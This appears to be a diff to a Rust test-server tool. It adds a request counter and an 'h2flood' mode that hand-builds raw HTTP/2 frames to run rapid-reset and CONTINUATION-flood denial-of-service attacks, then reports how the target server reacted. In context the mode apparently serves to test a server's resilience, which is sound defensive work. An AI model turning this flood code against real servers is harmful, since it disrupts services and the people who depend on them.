@@ -2,8 +2,16 @@
 //! `authz-testsrv http ADDR` | `authz-testsrv echo ADDR` | `authz-testsrv file ADDR PATH FILE`
 //! `authz-testsrv h2get ADDR PATH...`: an HTTP/2 (prior knowledge) client sending every path on one
 //! connection, printing "STATUS BODY" per line.
-//! Every HTTP reply is JSON: {client, method, path, version, headers, body_len, body_sha256}.
-use std::{convert::Infallible, net::SocketAddr};
+//! `authz-testsrv h2flood ADDR rapid-reset|continuation N`: an HTTP/2 attacker (raw frames),
+//! printing what the server did as JSON {goaway, responses, closed}.
+//! Every HTTP reply is JSON: {client, method, path, version, headers, body_len, body_sha256};
+//! `GET /__count` answers how many requests the server has seen (not counting itself).
+use std::{
+    convert::Infallible,
+    net::SocketAddr,
+    sync::atomic::{AtomicU64, Ordering},
+    time::Duration,
+};
 
 use bytes::Bytes;
 use http_body_util::{BodyExt, Full};
@@ -26,6 +34,9 @@ async fn main() -> anyhow::Result<()> {
         .parse()?;
     if mode == "h2get" {
         return h2get(addr, &args[3..]).await;
+    }
+    if mode == "h2flood" {
+        return h2flood(addr, &args[3], args[4].parse()?).await;
     }
     let listener = TcpListener::bind(addr).await?;
     let file = match mode {
@@ -62,11 +73,18 @@ async fn main() -> anyhow::Result<()> {
     }
 }
 
+static REQUESTS: AtomicU64 = AtomicU64::new(0);
+
 async fn reply(
     peer: SocketAddr,
     mut req: Request<Incoming>,
     file: Option<(String, Bytes)>,
 ) -> Response<Full<Bytes>> {
+    if req.uri().path() == "/__count" {
+        let n = REQUESTS.load(Ordering::SeqCst);
+        return Response::new(Full::new(Bytes::from(format!("{{\"count\":{n}}}"))));
+    }
+    REQUESTS.fetch_add(1, Ordering::SeqCst);
     if let Some((path, body)) = file {
         let status = if req.uri().path() == path { 200 } else { 404 };
         let body = if status == 200 { body } else { Bytes::new() };
@@ -154,5 +172,100 @@ async fn h2get(addr: SocketAddr, paths: &[String]) -> anyhow::Result<()> {
         let body = resp.into_body().collect().await?.to_bytes();
         println!("{status} {}", String::from_utf8_lossy(&body));
     }
+    Ok(())
+}
+
+/// An HTTP/2 frame: 24-bit length, type, flags, stream id, payload.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = payload.len() as u32;
+    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// HPACK for GET http://w/ : indexed :method GET, :scheme http, :path /, literal :authority.
+fn get_block() -> Vec<u8> {
+    vec![0x82, 0x86, 0x84, 0x01, 0x01, b'w']
+}
+
+/// HPACK literal header (new name, not indexed), about 100 bytes.
+fn junk_header(i: usize) -> Vec<u8> {
+    let name = format!("x-junk-{i}");
+    let value = "v".repeat(90);
+    let mut b = vec![0x00, name.len() as u8];
+    b.extend_from_slice(name.as_bytes());
+    b.push(value.len() as u8);
+    b.extend_from_slice(value.as_bytes());
+    b
+}
+
+async fn h2flood(addr: SocketAddr, kind: &str, n: usize) -> anyhow::Result<()> {
+    const HEADERS: u8 = 1;
+    const RST_STREAM: u8 = 3;
+    const SETTINGS: u8 = 4;
+    const GOAWAY: u8 = 7;
+    const CONTINUATION: u8 = 9;
+    const END_STREAM: u8 = 0x1;
+    const END_HEADERS: u8 = 0x4;
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(frame(SETTINGS, 0, 0, &[]));
+    match kind {
+        "rapid-reset" => {
+            for i in 0..n as u32 {
+                let id = 1 + 2 * i;
+                out.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get_block()));
+                out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
+            }
+        }
+        "continuation" => {
+            out.extend(frame(HEADERS, END_STREAM, 1, &get_block()));
+            for i in 0..n {
+                out.extend(frame(CONTINUATION, 0, 1, &junk_header(i)));
+            }
+        }
+        other => anyhow::bail!("unknown flood {other}"),
+    }
+    let (mut r, mut w) = tokio::net::TcpStream::connect(addr).await?.into_split();
+    let writer = tokio::spawn(async move {
+        let _ = w.write_all(&out).await;
+        w
+    });
+    let mut goaway = None;
+    let mut responses = 0;
+    let mut closed = false;
+    let mut buf = Vec::new();
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        let mut chunk = [0u8; 16384];
+        match tokio::time::timeout_at(deadline, r.read(&mut chunk)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => {
+                closed = true;
+                break;
+            }
+            Ok(Ok(k)) => buf.extend_from_slice(&chunk[..k]),
+            Err(_) => break,
+        }
+        while buf.len() >= 9 {
+            let len =
+                (usize::from(buf[0]) << 16) | (usize::from(buf[1]) << 8) | usize::from(buf[2]);
+            if buf.len() < 9 + len {
+                break;
+            }
+            match buf[3] {
+                HEADERS => responses += 1,
+                GOAWAY if len >= 8 => {
+                    goaway = Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]))
+                }
+                _ => {}
+            }
+            buf.drain(..9 + len);
+        }
+    }
+    writer.abort();
+    println!(
+        "{}",
+        serde_json::json!({"goaway": goaway, "responses": responses, "closed": closed})
+    );
     Ok(())
 }
